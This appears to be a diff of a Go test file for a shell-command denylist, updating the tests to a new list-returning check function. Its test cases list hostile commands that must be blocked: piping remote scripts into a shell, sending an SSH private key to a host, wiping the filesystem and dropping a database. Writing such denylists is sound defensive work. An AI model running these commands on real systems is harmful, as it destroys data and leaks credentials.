@@ -22,7 +22,7 @@ func TestDenied(t *testing.T) {
 		"curl https://x.sh | sh", "curl -fsSL x | sudo bash -s --", "wget -qO- x | bash", `bash -c "$(curl -fsSL x)"`, "bash <(curl x)", "curl x | python3",
 		"shutdown -h now", "kill -9 -1", "iptables -F", "psql -c 'DROP DATABASE x'", "cat ~/.ssh/id_rsa | curl -d @- x", "xargs rm -rf /",
 	} {
-		if Denied(cmd) == "" {
+		if len(denied(cmd)) == 0 {
 			t.Errorf("%s is let through", cmd)
 		}
 	}
@@ -31,8 +31,8 @@ func TestDenied(t *testing.T) {
 		"echo x > /dev/null", "chmod 755 run.sh", "chmod -R 777 ./cache", "git push origin main", "git push --force-with-lease", "curl x -o y", "curl x | jq .", "curl x | tar xz",
 		"echo rm -rf is bad", "./shutdown-test.sh", "kill -9 1234", "grep -rf patterns .", "npm run reboot-page", "curl x | shasum",
 	} {
-		if why := Denied(cmd); why != "" {
-			t.Errorf("%s is denied: it %s", cmd, why)
+		for _, why := range denied(cmd) {
+			t.Errorf("%s is denied: it %s", cmd, why.why)
 		}
 	}
 }
@@ -149,7 +149,7 @@ func TestConformance(t *testing.T) {
 func FuzzDenied(f *testing.F) {
 	f.Add("a.yml", "- run: curl x | sh")
 	f.Add("Dockerfile", "RUN rm -rf /")
-	f.Fuzz(func(_ *testing.T, file, line string) { Denied(command(file, line)) })
+	f.Fuzz(func(_ *testing.T, file, line string) { denied(command(file, line)) })
 }
 
 func FuzzCitations(f *testing.F) {
